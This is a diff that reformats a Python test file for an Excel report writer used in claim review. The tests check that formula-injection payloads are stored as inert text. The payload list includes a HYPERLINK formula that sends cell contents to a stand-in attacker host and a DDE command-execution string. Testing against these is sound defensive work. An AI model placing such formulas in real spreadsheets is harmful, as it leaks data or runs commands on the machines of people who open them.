@@ -19,23 +19,59 @@ from flows import report
 from flows.report import atomic_path, write_findings_file, write_workbook
 from validators import findings as fnd
 
-PAYLOADS = ["=1+1", '=HYPERLINK("http://evil.invalid/?"&A2,"click")', "+1+1", "-2+3", "@SUM(1,1)",
-            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "#N/A", "#REF!", "=", "'=1+1"]
+PAYLOADS = [
+    "=1+1",
+    '=HYPERLINK("http://evil.invalid/?"&A2,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "#N/A",
+    "#REF!",
+    "=",
+    "'=1+1",
+]
 
 
 def findings_with(messages: list[str]) -> pl.DataFrame:
     n = len(messages)
-    return pl.DataFrame({
-        "claim_id": [f"C{i}" for i in range(n)], "line_number": [1] * n, "rule_id": ["FLD001"] * n,
-        "category": ["field-integrity"] * n, "severity": ["high"] * n, "carc": ["CO-16"] * n, "rarc": [None] * n,
-        "message": messages, "fix": ["fix it"] * n, "charge_at_risk": [10.0] * n, "source_file": ["x.csv"] * n,
-        "source_row": list(range(2, n + 2)),
-    }, schema=fnd.FINDINGS_SCHEMA)
+    return pl.DataFrame(
+        {
+            "claim_id": [f"C{i}" for i in range(n)],
+            "line_number": [1] * n,
+            "rule_id": ["FLD001"] * n,
+            "category": ["field-integrity"] * n,
+            "severity": ["high"] * n,
+            "carc": ["CO-16"] * n,
+            "rarc": [None] * n,
+            "message": messages,
+            "fix": ["fix it"] * n,
+            "charge_at_risk": [10.0] * n,
+            "source_file": ["x.csv"] * n,
+            "source_row": list(range(2, n + 2)),
+        },
+        schema=fnd.FINDINGS_SCHEMA,
+    )
 
 
-CLAIMS = pl.DataFrame({"Claim ID": ["C0", "C1"], "Billed": [125.5, 80.0], "First service": [date(2026, 9, 1)] * 2,
-                       "Score": [100, 0], "Status": ["hold", "clean"]})
-RULES = pl.DataFrame({"Rule": ["FLD000", "FLD001"], "Title": ["another", "member id missing"], "Severity": ["high"] * 2})
+CLAIMS = pl.DataFrame(
+    {
+        "Claim ID": ["C0", "C1"],
+        "Billed": [125.5, 80.0],
+        "First service": [date(2026, 9, 1)] * 2,
+        "Score": [100, 0],
+        "Status": ["hold", "clean"],
+    }
+)
+RULES = pl.DataFrame(
+    {
+        "Rule": ["FLD000", "FLD001"],
+        "Title": ["another", "member id missing"],
+        "Severity": ["high"] * 2,
+    }
+)
 PROBLEMS = pl.DataFrame(schema={"File": pl.String, "Problem": pl.String})
 MESSAGE_COLUMN = 4  # in the Findings frame below
 
@@ -43,9 +79,15 @@ MESSAGE_COLUMN = 4  # in the Findings frame below
 def write(path: Path, messages: list[str], **kw) -> dict:
     """A workbook whose Findings sheet carries `messages`; other sheets small and fixed."""
     sheet = findings_with(messages).select(
-        pl.col("claim_id").alias("Claim ID"), pl.col("rule_id").alias("Rule"), pl.col("severity").alias("Severity"),
-        pl.col("message").alias("Message"), pl.col("charge_at_risk").alias("At risk"))
-    return write_workbook(path, kw.get("run", RUN), kw.get("tables", {}), CLAIMS, sheet, RULES, PROBLEMS)
+        pl.col("claim_id").alias("Claim ID"),
+        pl.col("rule_id").alias("Rule"),
+        pl.col("severity").alias("Severity"),
+        pl.col("message").alias("Message"),
+        pl.col("charge_at_risk").alias("At risk"),
+    )
+    return write_workbook(
+        path, kw.get("run", RUN), kw.get("tables", {}), CLAIMS, sheet, RULES, PROBLEMS
+    )
 
 
 RUN = {"facts": [("As-of date", "2026-09-30")], "warnings": [], "findings_file": "findings.csv"}
@@ -65,10 +107,16 @@ def test_known_payloads_are_text_not_formulas(tmp_path):
     cells = [ws.cell(row=i + 2, column=MESSAGE_COLUMN) for i in range(len(PAYLOADS))]
     assert [c.value for c in cells] == PAYLOADS
     assert all(c.data_type == "s" for c in cells)
-    assert all(c.quotePrefix for c, p in zip(cells, PAYLOADS, strict=True) if p.startswith(report.FORMULA_TRIGGERS) or p.startswith("#"))
+    assert all(
+        c.quotePrefix
+        for c, p in zip(cells, PAYLOADS, strict=True)
+        if p.startswith((*report.FORMULA_TRIGGERS, "#"))
+    )
 
 
-@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@settings(
+    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
 @given(st.text(max_size=40))
 @example("\x0b=SUM(A1)")
 @example("A\x1aB")
@@ -82,7 +130,9 @@ def test_any_string_is_stored_as_text(tmp_path, text):
 
 def test_workbook_sheets_headers_formats_and_links(tmp_path):
     path = tmp_path / "r.xlsx"
-    tables = {"Rules by dollars at risk": pl.DataFrame({"Rule": ["FLD001"], "Dollars at risk": [10.0]})}
+    tables = {
+        "Rules by dollars at risk": pl.DataFrame({"Rule": ["FLD001"], "Dollars at risk": [10.0]})
+    }
     write(path, ["a", "b", "c"], tables=tables)
     wb = openpyxl.load_workbook(path)
     assert wb.sheetnames == ["Summary", "Claims", "Findings", "Rules", "Input problems"]
@@ -111,7 +161,10 @@ def test_sheets_are_bounded_and_the_summary_says_where_the_rest_is(tmp_path, mon
     wb = openpyxl.load_workbook(path)
     assert out["rows_not_shown"] == 2 and wb["Findings"].max_row == 3
     texts = [c.value for row in wb["Summary"].iter_rows() for c in row if isinstance(c.value, str)]
-    assert any("Findings sheet shows the 2 most urgent of 4 rows" in t and "findings.csv" in t for t in texts)
+    assert any(
+        "Findings sheet shows the 2 most urgent of 4 rows" in t and "findings.csv" in t
+        for t in texts
+    )
 
 
 def test_time_zone_aware_datetimes_are_written_as_local_wall_time(tmp_path):
@@ -125,11 +178,17 @@ def test_time_zone_aware_datetimes_are_written_as_local_wall_time(tmp_path):
 
 def test_over_long_text_is_cut_and_counted(tmp_path):
     out = write(tmp_path / "r.xlsx", ["x" * 40_000])
-    value = openpyxl.load_workbook(tmp_path / "r.xlsx")["Findings"].cell(row=2, column=MESSAGE_COLUMN).value
+    value = (
+        openpyxl.load_workbook(tmp_path / "r.xlsx")["Findings"]
+        .cell(row=2, column=MESSAGE_COLUMN)
+        .value
+    )
     assert out["texts_truncated"] == 1 and len(value) == report.EXCEL_MAX_TEXT
 
 
-@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # openpyxl's abandoned writer
+@pytest.mark.filterwarnings(
+    "ignore::pytest.PytestUnraisableExceptionWarning"
+)  # openpyxl's abandoned writer
 def test_failure_mid_save_keeps_the_previous_report_and_leaves_no_debris(tmp_path, monkeypatch):
     path = tmp_path / "r.xlsx"
     write(path, ["OLD"])
@@ -141,7 +200,9 @@ def test_failure_mid_save_keeps_the_previous_report_and_leaves_no_debris(tmp_pat
     monkeypatch.setattr(openpyxl.Workbook, "save", broken_save)
     with pytest.raises(OSError):
         write(path, ["NEW"])
-    assert openpyxl.load_workbook(path)["Findings"].cell(row=2, column=MESSAGE_COLUMN).value == "OLD"
+    assert (
+        openpyxl.load_workbook(path)["Findings"].cell(row=2, column=MESSAGE_COLUMN).value == "OLD"
+    )
     assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]
     gc.collect()  # finalise the abandoned sheet writers here, under this test's warning filter
 
